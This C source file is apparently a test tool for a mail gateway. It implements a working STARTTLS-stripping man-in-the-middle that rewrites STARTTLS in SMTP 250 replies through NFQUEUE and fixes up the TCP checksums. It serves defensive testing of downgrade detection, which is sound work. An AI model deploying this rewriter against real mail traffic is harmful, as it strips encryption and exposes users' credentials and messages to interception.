/*
 * stg_attacker.c - a STARTTLS-stripping man in the middle, for the tests.
 *
 *   stg_attacker rewrite QUEUE
 *
 * Serves one NFQUEUE in the attacker namespace (rules there queue TCP with
 * source port 25). In server-to-client segments whose payload starts a
 * 250 reply, every "STARTTLS" (any case) becomes "XXXXXXXX": the same
 * length, so TCP sequence numbers stay valid; the TCP checksum is computed
 * anew and the segment goes back to the kernel in the verdict. This is the
 * classic stripping attack the gateway must catch. Prints one line per
 * rewrite on stderr; exits on SIGTERM/SIGINT. Test tool only: it talks to
 * libnetfilter_queue directly because it must hand back a changed packet.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>
#include <unistd.h>

#include <libmnl/libmnl.h>
#include <linux/netfilter.h>
#include <linux/netfilter/nfnetlink.h>
#include <libnetfilter_queue/libnetfilter_queue.h>

#include "../../inspect/pkt.h"
#include "../../inspect/csum.h"

#define ATT_BUFSZ (0xffff + 8192)

static volatile sig_atomic_t stop;
static unsigned rewrites;

static void
on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

/* Recompute the TCP checksum of a decoded segment in place. */
static void
tcp_fix_csum(struct pkt *p)
{
	uint8_t *th = (uint8_t *)(uintptr_t)p->l4;
	size_t alen = p->af == 4 ? 4 : 16, tlen = p->l4_len;
	uint32_t s;

	th[16] = th[17] = 0;
	s = csum_add(0, p->src.a, alen);
	s = csum_add(s, p->dst.a, alen);
	s += 6 + (uint32_t)tlen;
	s = csum_fold(csum_add(s, th, tlen));
	th[16] = (uint8_t)(s >> 8);
	th[17] = (uint8_t)s;
}

/* Garble STARTTLS in a 250 reply; returns the number of replacements. */
static int
rewrite(struct pkt *p)
{
	uint8_t *pl = (uint8_t *)(uintptr_t)p->payload;
	uint32_t i, n = p->payload_len;
	int hits = 0;

	if (p->sport != 25 || n < 12 || memcmp(pl, "250", 3) != 0)
		return 0;
	for (i = 0; i + 8 <= n; i++) {
		if (strncasecmp((const char *)pl + i, "STARTTLS", 8) == 0) {
			memset(pl + i, 'X', 8);
			hits++;
		}
	}
	if (hits)
		tcp_fix_csum(p);
	return hits;
}

static int
send_cfg(struct mnl_socket *nl, char *buf, unsigned queue, int bind_cmd)
{
	struct nlmsghdr *nlh = nfq_nlmsg_put(buf, NFQNL_MSG_CONFIG, queue);

	if (bind_cmd)
		nfq_nlmsg_cfg_put_cmd(nlh, AF_UNSPEC, NFQNL_CFG_CMD_BIND);
	else
		nfq_nlmsg_cfg_put_params(nlh, NFQNL_COPY_PACKET, 0xffff);
	return mnl_socket_sendto(nl, nlh, nlh->nlmsg_len) < 0 ? -1 : 0;
}

int
main(int argc, char **argv)
{
	static char buf[ATT_BUFSZ], out[ATT_BUFSZ];
	struct nlattr *attr[NFQA_MAX + 1];
	struct mnl_socket *nl;
	struct sigaction sa;
	struct pollfd pfd;
	unsigned queue;
	int one = 1;

	if (argc != 3 || strcmp(argv[1], "rewrite") != 0) {
		fprintf(stderr, "usage: stg_attacker rewrite QUEUE\n");
		return 2;
	}
	queue = (unsigned)atoi(argv[2]);
	memset(&sa, 0, sizeof sa);
	sa.sa_handler = on_signal;
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);

	nl = mnl_socket_open(NETLINK_NETFILTER);
	if (nl == NULL || mnl_socket_bind(nl, 0, MNL_SOCKET_AUTOPID) < 0) {
		perror("stg_attacker: netlink");
		return 1;
	}
	(void)mnl_socket_setsockopt(nl, NETLINK_NO_ENOBUFS, &one, sizeof one);
	if (send_cfg(nl, out, queue, 1) < 0 || send_cfg(nl, out, queue, 0) < 0) {
		perror("stg_attacker: queue config");
		return 1;
	}
	fprintf(stderr, "stg_attacker: rewriting on queue %u\n", queue);

	while (!stop) {
		ssize_t n;
		const struct nlmsghdr *nlh;
		int len;

		pfd.fd = mnl_socket_get_fd(nl);
		pfd.events = POLLIN;
		if (poll(&pfd, 1, 200) <= 0)
			continue;
		n = recv(pfd.fd, buf, sizeof buf, MSG_DONTWAIT);
		if (n <= 0)
			continue;
		len = (int)n;
		for (nlh = (struct nlmsghdr *)buf; mnl_nlmsg_ok(nlh, len);
		    nlh = mnl_nlmsg_next(nlh, &len)) {
			struct nfqnl_msg_packet_hdr *ph;
			struct nlmsghdr *v;
			struct pkt p;
			uint8_t *data;
			uint32_t plen, id;
			int hits = 0;

			if (NFNL_MSG_TYPE(nlh->nlmsg_type) != NFQNL_MSG_PACKET)
				continue;
			memset(attr, 0, sizeof attr);
			if (nfq_nlmsg_parse(nlh, attr) < 0 ||
			    attr[NFQA_PACKET_HDR] == NULL)
				continue;
			ph = mnl_attr_get_payload(attr[NFQA_PACKET_HDR]);
			id = ntohl(ph->packet_id);
			v = nfq_nlmsg_put(out, NFQNL_MSG_VERDICT, queue);
			nfq_nlmsg_verdict_put(v, (int)id, NF_ACCEPT);
			if (attr[NFQA_PAYLOAD] != NULL) {
				data = mnl_attr_get_payload(attr[NFQA_PAYLOAD]);
				plen = mnl_attr_get_payload_len(attr[NFQA_PAYLOAD]);
				if (pkt_decode_ip(&p, data, plen) == PKT_OK &&
				    p.payload_len == p.payload_wire_len)
					hits = rewrite(&p);
				if (hits) {
					nfq_nlmsg_verdict_put_pkt(v, data, plen);
					rewrites += (unsigned)hits;
					fprintf(stderr, "stg_attacker: rewrote STARTTLS "
					    "(%u so far)\n", rewrites);
				}
			}
			if (mnl_socket_sendto(nl, v, v->nlmsg_len) < 0)
				perror("stg_attacker: verdict");
		}
	}
	mnl_socket_close(nl);
	fprintf(stderr, "stg_attacker: %u rewrites\n", rewrites);
	return 0;
}
